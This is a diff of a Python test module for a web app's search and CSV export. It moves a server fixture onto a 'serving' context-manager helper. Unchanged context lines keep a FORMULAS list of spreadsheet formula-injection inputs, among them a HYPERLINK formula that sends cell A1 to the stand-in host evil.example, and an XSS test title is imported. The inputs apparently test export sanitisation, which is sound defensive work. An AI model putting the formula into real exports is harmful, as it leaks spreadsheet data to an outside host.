@@ -19,6 +19,7 @@ from app.web.saved import follow_context
 from crawler import provinces
 from search.base import MAX_PAGE_SIZE, Query, Results, doc_id, to_document
 from search.paging import walk
+from tests.helpers import serving
 from tests.webdata import XSS_TITLE, build_site, fetch
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84 hợp tác xã gọi điện", "-2+3 hợp tác xã",
@@ -38,7 +39,6 @@ def _item(i: int, title: str, site: str = "lmhtx-hanoi", province: str = "ha-noi
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory):
-    from app.web.server import start_in_thread
 
     tmp = tmp_path_factory.mktemp("export")
     backend, archive, items = build_site(tmp)
@@ -47,12 +47,8 @@ def site(tmp_path_factory):
     backend.index([to_document(a) for a in extra])
     for a in extra:
         archive.upsert(doc_id(a["canonical_url"]), a)
-    server, base = start_in_thread(backend, archive, now=lambda: datetime(2025, 9, 15, 9, 30))
-    yield {"base": base, "backend": backend, "archive": archive, "items": items + extra}
-    server.shutdown()
-    server.server_close()
-    backend.close()
-    archive.close()
+    with serving(backend, archive, now=lambda: datetime(2025, 9, 15, 9, 30)) as base:
+        yield {"base": base, "backend": backend, "archive": archive, "items": items + extra}
 
 
 def read_csv(body: bytes) -> list[list[str]]:
